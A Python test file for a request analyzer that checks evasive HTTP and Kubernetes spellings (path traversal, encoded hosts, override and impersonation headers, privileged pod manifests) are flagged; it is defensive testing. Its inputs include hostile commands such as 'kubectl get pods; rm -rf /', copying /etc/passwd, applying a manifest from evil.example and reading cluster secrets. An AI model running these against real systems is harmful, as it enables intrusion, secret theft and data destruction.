"""Attacks on the analysis of HTTP and Kubernetes requests: other spellings of the same thing.

Here the analyzer's word is at stake: either it sees through a spelling, or it does not understand
it, which is denied. Redirects, name resolution, answers and limits are the connector's.
"""

from __future__ import annotations

import pytest

from jupyter_zt.model import Facts, Risk, Verb, Verdict
from jupyter_zt.policy import HttpSurface, PolicySet, analyze_http, analyze_kubernetes
from tests.policy.decisions import decide

API = HttpSurface.at("https://api.example")
LOOPBACK = HttpSurface.at("http://127.0.0.1:8080")


def http(command: str) -> Facts:
    return analyze_http(command, API)


@pytest.mark.parametrize(
    ("written", "path"),
    [
        ("/public/../admin", "/admin"),
        ("/public/%2e%2e/admin", "/admin"),
        ("/public/%2E./admin", "/admin"),
        ("/public/.%2e/admin", "/admin"),
        ("/./admin", "/admin"),
        ("/%61dmin", "/admin"),
        ("/%41dmin", "/Admin"),
        ("/a/b/../../admin/.", "/admin/"),
        ("/caf%c3%a9", "/caf%C3%A9"),
        ("/a%20b", "/a%20b"),
        ("", "/"),
    ],
)
def test_a_path_has_one_spelling(written: str, path: str) -> None:
    facts = http(f"GET https://api.example{written}")
    assert facts.unknown == ""
    assert facts.http is not None
    assert facts.http.path == path


@pytest.mark.parametrize(
    "path",
    [
        "/public//admin",
        "//admin",
        "/public;/../admin",
        "/public/..;/admin",
        "/public%2f..%2fadmin",
        "/public/..%5cadmin",
        "/public\\..\\admin",
        "/public/%252e%252e/admin",
        "/public%00/admin",
        "/public%0d%0aX-Admin:1",
        "/public%3b/admin",
        "/%c0%ae%c0%ae/admin",
        "/%e0%80%af",
        "/..",
        "/public/../../admin",
        "/a%",
        "/a%zz",
        "/ä",
        "/a b",
        "/a#b",
        "/a\tb",
        "/a|b",
        "/a?x=%0d%0a",
        "/a?x;y=1",
        "/a?_method=DELETE",
        "/a?x=%ff",
        "*",
        "admin",
    ],
)
def test_a_path_that_servers_read_differently_is_not_understood(path: str) -> None:
    assert http(f"GET {path}").verb is Verb.UNKNOWN


@pytest.mark.parametrize(
    "host",
    [
        "2130706433",
        "0x7f000001",
        "0x7f.1",
        "0177.0.0.1",
        "127.1",
        "127.0.0.01",
        "1.2.3.4.5",
        "127.0.0.256",
        "api.example%2eevil",
        "api.example\\@evil",
        "user@api.example",
        "api.example@evil",
        "[::1%25eth0]",
        "[::1",
        "аpi.example",  # noqa: RUF001 (a Cyrillic letter)
        "api。example",
        "a..b",
        "-a.example",
        "api.example:99999",
        "",
    ],
)
def test_a_host_in_an_unusual_notation_is_not_understood(host: str) -> None:
    assert http(f"GET http://{host}/").verb is Verb.UNKNOWN


@pytest.mark.parametrize(
    "host", ["127.0.0.1", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:7f00:0001]"]
)
def test_an_address_has_one_spelling(host: str) -> None:
    facts = analyze_http(f"GET http://{host}:8080/", LOOPBACK)
    assert facts.http is not None
    assert facts.http.host == "127.0.0.1"
    assert not facts.risks


@pytest.mark.parametrize("url", ["https://API.Example/", "https://api.example.:443/"])
def test_a_name_has_one_spelling(url: str) -> None:
    facts = http(f"GET {url}")
    assert facts.http is not None
    assert (facts.http.host, facts.risks) == ("api.example", frozenset())


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/",
        "http://api.example/",
        "https://api.example:8443/",
        "https://api.example.evil/",
        "http://169.254.169.254/latest/meta-data/",
        "http://[::1]/",
    ],
)
def test_another_host_is_seen_as_one(url: str) -> None:
    facts = http(f"GET {url}")
    assert facts.risks == {Risk.EXFILTRATION}


@pytest.mark.parametrize("scheme", ["file", "gopher", "ftp", "HTTPS", "javascript", "data"])
def test_other_schemes_are_not_understood(scheme: str) -> None:
    assert http(f"GET {scheme}://api.example/").verb is Verb.UNKNOWN


@pytest.mark.parametrize(
    "header",
    [
        "X-HTTP-Method-Override: DELETE",
        "x-http-method: DELETE",
        "X-Method-Override: DELETE",
        "X-Original-URL: /admin",
        "X-Rewrite-URL: /admin",
        "Host: evil.example",
        "Host: api.example:8443",
        "Authorization: Bearer stolen",
        "Cookie: session=1",
        "Proxy-Authorization: Basic x",
        "Transfer-Encoding: chunked",
        "Content-Length: 0",
        "Connection: X-Zt",
        "X-Forwarded-For: 127.0.0.1",
        "Forwarded: for=127.0.0.1",
        "Impersonate-User: admin",
        "X-Remote-User: admin",
        "A: b\rX-Admin: 1",
        "A: b\x0bc",
        "A : b",
        " A: b",
        "A: b\n folded",
        "A: ü",
        "Accept: a\nAccept: b",
        "no header",
    ],
)
def test_a_header_that_changes_who_asks_or_what_is_not_understood(header: str) -> None:
    assert http(f"GET /\n{header}").verb is Verb.UNKNOWN


@pytest.mark.parametrize("method", ["get", "Get", "TRACE", "CONNECT", "PROPFIND", "DELETE\t", ""])
def test_other_methods_and_spellings_are_not_understood(method: str) -> None:
    assert http(f"{method} /").verb is Verb.UNKNOWN


@pytest.mark.parametrize(
    "body",
    [
        '{"a": 1, "a": 2}',
        "{'a': 1}",
        '{"a": NaN}',
        "[" * 100_000,
        '{"a": "' + "x" * 1_100_000 + '"}',
        '{"a":' * 70 + "1" + "}" * 70,
    ],
    ids=range(6),
)
def test_a_body_that_parsers_read_differently_is_not_understood(body: str) -> None:
    facts = http(f"POST /\nContent-Type: application/json\n\n{body}")
    assert facts.verb is Verb.UNKNOWN
    assert not facts.unknown.startswith("its analysis failed")


def test_a_read_with_a_body_is_not_understood() -> None:
    for method in ("GET", "HEAD", "OPTIONS", "DELETE"):
        assert http(f"{method} /\n\nx").verb is Verb.UNKNOWN


def test_the_method_in_a_form_field_is_not_understood() -> None:
    form = "POST /\nContent-Type: application/x-www-form-urlencoded\n\n_method=DELETE"
    assert http(form).verb is Verb.UNKNOWN


# --- Kubernetes -----------------------------------------------------------------------------------

POD = "/api/v1/namespaces/shop/pods/web"


@pytest.mark.parametrize(
    "command",
    [
        f"POST {POD}/exec?command=sh&stdin=true",
        f"GET {POD}/exec?command=sh",
        f"POST {POD}/../web/exec",
        "POST /api/v1/namespaces/shop/%70ods/web/%65xec",
        "POST /api/v1/namespaces/x/../shop/pods/web/exec/",
        f"GET {POD}/attach",
        f"PATCH {POD}/ephemeralcontainers\nContent-Type: application/merge-patch+json\n\n{{}}",
        f"PUT {POD}/ephemeralcontainers\nContent-Type: application/json\n\n{{}}",
        "GET /api/v1/nodes/n1/proxy/run/shop/web/sh",
        "kubectl exec web -n shop -- sh",
        "kubectl exec -it pod/web -n shop -- sh",
        "exec web -- sh",
        "kubectl attach web",
        "kubectl cp shop/web:/etc/passwd x",
        "kubectl debug web --image busybox",
    ],
)
def test_code_in_a_pod_is_seen_in_any_spelling(command: str) -> None:
    facts = analyze_kubernetes(command)
    assert facts.unknown == ""
    assert Risk.CODE_EXECUTION in facts.risks


@pytest.mark.parametrize(
    "command",
    [
        f"GET {POD}/portforward",
        f"POST {POD}/portforward?ports=80",
        f"GET {POD}/proxy",
        f"GET {POD}/proxy/any/path",
        "GET /api/v1/namespaces/shop/services/https:web:443/proxy/",
        "kubectl port-forward web 80",
    ],
)
def test_a_tunnel_is_seen_in_any_spelling(command: str) -> None:
    facts = analyze_kubernetes(command)
    assert facts.verb is Verb.KUBERNETES_CONNECT
    assert Risk.EXFILTRATION in facts.risks


@pytest.mark.parametrize(
    "command",
    [
        "GET /api/v1/secrets",
        "GET /api/v1/namespaces/shop/secrets?watch=true",
        "GET /api/v1/namespaces/shop/secrets?watch=",
        "GET /api/v1/watch/namespaces/shop/secrets",
        "GET /api/v1/watch/secrets/db",
        "GET /api/v1/namespaces/shop/secrets/db",
        "GET /api/v1/secrets\nAccept: application/json;as=Table;g=meta.k8s.io;v=v1",
        "GET /api/v1/namespaces/shop/configmaps/../secrets",
        "HEAD /api/v1/secrets",
        "kubectl get secrets -A",
        "kubectl get secret/db -o yaml",
        "kubectl describe secret db",
        "kubectl get --raw /api/v1/secrets",
        "kubectl get --raw=/api/v1/namespaces/kube-system/secrets/x",
        "kubectl get -w secrets",
        "POST /api/v1/namespaces/shop/serviceaccounts/default/token\n\n{}",
    ],
)
def test_secrets_are_seen_in_any_spelling(command: str) -> None:
    facts = analyze_kubernetes(command)
    assert facts.unknown == ""
    assert Risk.SECRETS in facts.risks


@pytest.mark.parametrize(
    "command",
    [
        "GET /api/v1/namespaces/shop/Secrets",
        "GET /api/v1/secrets%2fdb",
        "GET /api/v1//secrets",
        "GET /api/v1/proxy/nodes/n1",
        "GET /api/v1/secrets\nImpersonate-User: system:admin",
        "GET /api/v1/secrets\nImpersonate-Group: system:masters",
        "kubectl get secrets --as=admin",
        "kubectl --as admin get pods",
        "kubectl get pods --kubeconfig /tmp/x",
        "kubectl get pods --context other",
        "kubectl get pods -s https://evil.example",
        "kubectl get pods --server=https://evil.example",
        "kubectl get pods --token x",
        "kubectl get pods,secrets",
        "kubectl get all",
        "kubectl get pods; rm -rf /",
        "kubectl get pods\nkubectl delete pods --all",
        "kubectl get pods 'x",
        "kubectl apply -f /etc/passwd",
        "kubectl apply -f https://evil.example/x.yaml",
        "kubectl proxy",
        "kubectl drain n1",
        "kubectl delete pods",
        "kubectl plugin run",
        "kubectl get pods -nshop",
        "DELETE /version",
        "POST /api/v1/namespaces/shop/pods/web/log/extra/part",
        "PATCH /api/v1/namespaces/shop/pods/web\nContent-Type: application/x-evil\n\n{}",
        "DELETE /api/v1/namespaces/shop/pods/web?dryRun=Maybe",
        "POST /api/v1/namespaces/shop/pods\n\nmetadata: {namespace: kube-system, name: x}",
        "PUT /api/v1/namespaces/shop/pods/web\n\nmetadata: {name: other}",
        "POST /api/v1/namespaces/shop/pods\n\na: &a [1]\nb: *a",
        "POST /api/v1/namespaces/shop/pods\n\na: 1\n---\nb: 2",
        "POST /api/v1/namespaces/shop/pods\n\na: 1\na: 2",
        ("kubectl apply -f - -n shop\n\napiVersion: v1\nkind: Pod\n"
        "metadata: {name: x, namespace: kube-system}"),
        ('PATCH /api/v1/namespaces/shop/pods/web\nContent-Type: application/json-patch+json\n\n'
        '[{"op": "copy", "from": "/metadata/annotations/x", "path": "/spec/hostNetwork"}]'),
    ],
)  # fmt: skip
def test_what_could_mean_another_thing_is_not_understood(command: str) -> None:
    facts = analyze_kubernetes(command)
    assert facts.verb is Verb.UNKNOWN
    assert not facts.unknown.startswith("its analysis failed")


def test_a_server_side_apply_is_no_patch() -> None:
    path = "/apis/apps/v1/namespaces/shop/deployments/web"
    apply = analyze_kubernetes(
        f"PATCH {path}\nContent-Type: application/apply-patch+yaml\n\nmetadata: {{name: web}}"
    )
    patch = analyze_kubernetes(f"PATCH {path}\nContent-Type: application/merge-patch+json\n\n{{}}")
    assert (apply.verb, patch.verb) == (Verb.KUBERNETES_APPLY, Verb.KUBERNETES_PATCH)
    permit = '@id("p")permit (principal, action == ZT::Action::"kubernetes_patch", resource);'
    given = PolicySet({"a.cedar": permit.encode()}, ["cluster"])
    for facts, verdict in ((patch, Verdict.ALLOW), (apply, Verdict.DENY)):
        assert (
            decide(given, "", connection="cluster", kind="kubernetes", facts=facts).verdict
            is verdict
        )


@pytest.mark.parametrize(
    ("spec", "escape"),
    [
        ("containers: [{securityContext: {privileged: true}}]", "privileged"),
        ("initContainers: [{securityContext: {privileged: true}}]", "privileged"),
        ("ephemeralContainers: [{securityContext: {privileged: true}}]", "privileged"),
        ("volumes: [{hostPath: {path: /}}]", "host_path"),
        ("hostNetwork: true", "host_namespace"),
        ("hostPID: true", "host_namespace"),
        ("hostIPC: true", "host_namespace"),
        ("containers: [{ports: [{hostPort: 80}]}]", "host_port"),
        ("containers: [{securityContext: {capabilities: {add: [SYS_ADMIN]}}}]",
         "added_capability"),
        ("containers: [{securityContext: {allowPrivilegeEscalation: true}}]",
         "privilege_escalation"),
        ("securityContext: {runAsUser: 0}", "runs_as_root"),
        ("serviceAccountName: admin", "service_account"),
        ("automountServiceAccountToken: true", "service_account"),
        ("volumes: [{projected: {sources: [{serviceAccountToken: {path: t}}]}}]",
         "service_account"),
        ("nodeName: master", "node_name"),
        ("containers: [{securityContext: {procMount: Unmasked}}]", "unconfined"),
        ("securityContext: {seccompProfile: {type: Unconfined}}", "unconfined"),
    ],
)  # fmt: skip
def test_a_manifest_that_leads_out_of_its_pod_is_seen(spec: str, escape: str) -> None:
    templates = {
        "/api/v1/namespaces/shop/pods": f"spec: {{{spec}}}",
        "/apis/apps/v1/namespaces/shop/deployments": f"spec: {{template: {{spec: {{{spec}}}}}}}",
        "/apis/batch/v1/namespaces/shop/cronjobs": (
            f"spec: {{jobTemplate: {{spec: {{template: {{spec: {{{spec}}}}}}}}}}}"
        ),
        "/apis/example.com/v1/namespaces/shop/machines": f"spec: {{any: [{{{spec}}}]}}",
    }
    for path, manifest in templates.items():
        facts = analyze_kubernetes(f"POST {path}\nContent-Type: application/yaml\n\n{manifest}")
        assert facts.kubernetes is not None, facts.unknown
        assert escape in facts.kubernetes.escapes
        assert Risk.PRIVILEGE in facts.risks


def test_an_escape_in_a_json_patch_is_seen() -> None:
    facts = analyze_kubernetes(
        "PATCH /apis/apps/v1/namespaces/shop/deployments/web\n"
        "Content-Type: application/json-patch+json\n\n"
        '[{"op": "add", "path": "/spec/template/spec/hostNetwork", "value": true},'
        ' {"op": "add", "path": "/spec/template/spec/containers/0/securityContext",'
        ' "value": {"privileged": true}}]'
    )
    assert facts.kubernetes is not None
    assert facts.kubernetes.escapes == {"host_namespace", "privileged"}


def test_a_way_around_through_rights_is_seen() -> None:
    for path in (
        "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
        "/apis/rbac.authorization.k8s.io/v1/namespaces/shop/roles",
        "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations",
        "/apis/certificates.k8s.io/v1/certificatesigningrequests",
    ):
        facts = analyze_kubernetes(f"POST {path}\n\n{{}}")
        assert Risk.PRIVILEGE in facts.risks
